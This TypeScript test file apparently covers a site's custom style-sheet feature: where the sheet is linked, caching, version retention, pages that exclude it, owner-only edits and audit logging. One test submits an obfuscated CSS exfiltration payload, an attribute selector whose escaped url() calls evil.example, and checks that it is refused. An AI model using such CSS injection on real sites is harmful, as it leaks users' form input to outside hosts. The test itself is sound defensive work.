import { sql } from 'drizzle-orm'
import { SECOND } from '#kernel/clock.ts'
import { CSS_BYTES_MAX } from '#kernel/sizes.ts'
import { test as base, expect, refusalOf } from '#test/test.ts'

const CSS = '/api/admin/identity/css'
const LINK = /<link rel="stylesheet" href="(\/look\/[\w-]{22}\.css)">/

/** The owner, who removes the style sheet after the test. */
const test = base.extend('designer', async ({ owner }, { onCleanup }) => {
  onCleanup(async () => {
    await owner.put(CSS, { css: '' })
  })
  return owner
})

test('a style sheet is linked after those of the product, on cached pages immediately', async ({
  designer,
  visitor,
}) => {
  expect((await visitor.get('/posts')).text).not.toMatch(LINK)
  expect((await designer.put(CSS, { css: ':root{--canvas:#fff}' })).status).toBe(204)
  const { text, headers } = await visitor.get('/posts')
  const links = [...text.matchAll(/<link rel="stylesheet" href="([^"]+)">/g)].map(([, to]) => to)
  expect(links.filter((to) => to !== '/look.css').at(-1)).toMatch(/^\/look\//)
  expect(headers.get('content-security-policy')).toContain("style-src 'self';")
  await designer.put(CSS, { css: '' })
  expect((await visitor.get('/posts')).text).not.toMatch(LINK)
})

test('the file of a style sheet never changes, and that of the style sheet before stays', async ({
  designer,
  visitor,
}) => {
  const addressOf = async (css: string) => {
    await designer.put(CSS, { css })
    return LINK.exec((await visitor.get('/')).text)?.[1] ?? ''
  }
  const first = await addressOf('a{color:red}')
  const second = await addressOf('a{color:blue}')
  expect(second).not.toBe(first)
  expect(await addressOf('a{color:red}'), 'the same text has the same address').toBe(first)
  for (const [address, css] of [
    [first, 'a{color:red}'],
    [second, 'a{color:blue}'],
  ] as const) {
    const { text, headers } = await visitor.get(address)
    expect(text).toBe(css)
    expect(headers.get('content-type')).toBe('text/css; charset=utf-8')
    expect(headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  }
  expect((await visitor.get(`/look/${'x'.repeat(22)}.css`)).status).toBe(404)
})

test('the site keeps five replaced style sheets', async ({ designer, world }) => {
  for (let n = 0; n < 8; n++) {
    world.wait(SECOND)
    await designer.put(CSS, { css: `a{order:${n}}` })
  }
  const rows = await world.db.all(sql`SELECT css FROM site_styles ORDER BY css`)
  expect(rows).toEqual([2, 3, 4, 5, 6, 7].map((n) => ({ css: `a{order:${n}}` })))
})

test('pages on which people sign in, change their account or administer the site never have the style sheet', async ({
  designer,
  member,
  visitor,
}) => {
  await designer.put(CSS, { css: 'a{color:red}' })
  const admin = [
    '/admin',
    '/admin/identity',
    '/admin/site-settings',
    '/admin/pages/about',
    '/confirm',
  ]
  const own = [
    '/settings',
    '/settings?tab=account',
    '/confirm',
    '/studio',
    '/studio/write',
    '/welcome',
  ]
  const open = [
    '/login',
    '/register',
    '/forgot',
    '/reset?token=x',
    '/verify?token=x',
    '/restore',
    '/claim',
    '/letters',
    '/unsubscribe',
    '/oauth/authorize',
    '/not-me',
    '/login/../login',
    '/api/docs',
    '/nothing',
  ]
  for (const [client, paths] of [
    [designer, admin],
    [member, own],
    [visitor, open],
  ] as const)
    for (const path of paths) expect((await client.get(path)).text, path).not.toContain('/look/')
  for (const path of ['/', '/posts', '/tags', '/search', '/help', '/moderation', '/posts/999999'])
    expect((await visitor.get(path)).text, path).toMatch(LINK)
  expect((await member.get('/messages')).text).toMatch(LINK)
})

test('the safe look leaves the style sheet out for owners only', async ({
  designer,
  member,
  visitor,
}) => {
  await designer.put(CSS, { css: 'a{color:red}' })
  expect((await designer.get('/')).text).toMatch(LINK)
  expect((await designer.get('/?safe-look=1')).text).not.toContain('/look/')
  expect((await designer.get('/?safe-look=0')).text).toMatch(LINK)
  expect((await member.get('/?safe-look=1')).text).toMatch(LINK)
  expect((await visitor.get('/?safe-look=1')).text).toMatch(LINK)
})

test('a style sheet that reaches other hosts is refused with its line, and nothing changes', async ({
  designer,
  visitor,
}) => {
  await designer.put(CSS, { css: 'a{color:red}' })
  const before = LINK.exec((await visitor.get('/')).text)?.[1]
  const { status, json } = await designer.put(CSS, {
    css: 'a{}\ninput[value^="a"]{background:\\75rl(//evil.example/a)}',
  })
  expect([status, json.error.fields]).toEqual([
    422,
    {
      css: 'Line 2: \\75rl(//evil.example/a) is not an allowed address. Use images of this site (/images/…) or data:image/….',
    },
  ])
  for (const css of ['@import "x";', `/*${'x'.repeat(CSS_BYTES_MAX)}*/`, 'a{', 7, null])
    expect((await refusalOf(designer.put(CSS, { css })))[0], String(css).slice(0, 9)).toBe(422)
  expect((await designer.put(CSS, { css: 'a{b:\0}' })).status).toBe(422)
  expect(LINK.exec((await visitor.get('/')).text)?.[1]).toBe(before)
})

test('only an owner changes the style sheet, and the audit log has each change', async ({
  admin,
  designer,
}) => {
  expect((await admin.put(CSS, { css: 'a{}' })).status).toBe(403)
  await designer.put(CSS, { css: 'a{color:red}' })
  expect((await designer.get('/admin/audit-log?action=identity.change')).text).toContain(
    'Set the style sheet',
  )
})
